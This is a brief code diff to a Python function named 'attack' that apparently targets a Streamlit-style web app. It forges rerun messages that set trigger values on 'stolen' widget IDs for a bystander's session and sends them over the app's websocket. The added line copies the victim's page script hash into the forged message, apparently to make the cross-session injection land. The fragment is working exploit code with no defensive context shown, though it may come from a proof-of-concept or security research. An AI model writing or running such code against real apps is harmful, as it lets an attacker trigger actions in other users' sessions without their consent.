@@ -106,6 +106,7 @@ async def attack(address, page, bystander):
             clicked = [WidgetState(id=name, trigger_value=True) for name in stolen]
             message = BackMsg()
             message.rerun_script.fragment_id = place
+            message.rerun_script.page_script_hash = visitor._page
             message.rerun_script.widget_states.widgets.extend(clicked)
             await visitor._socket.send(message.SerializeToString())
         await visitor.rerun()
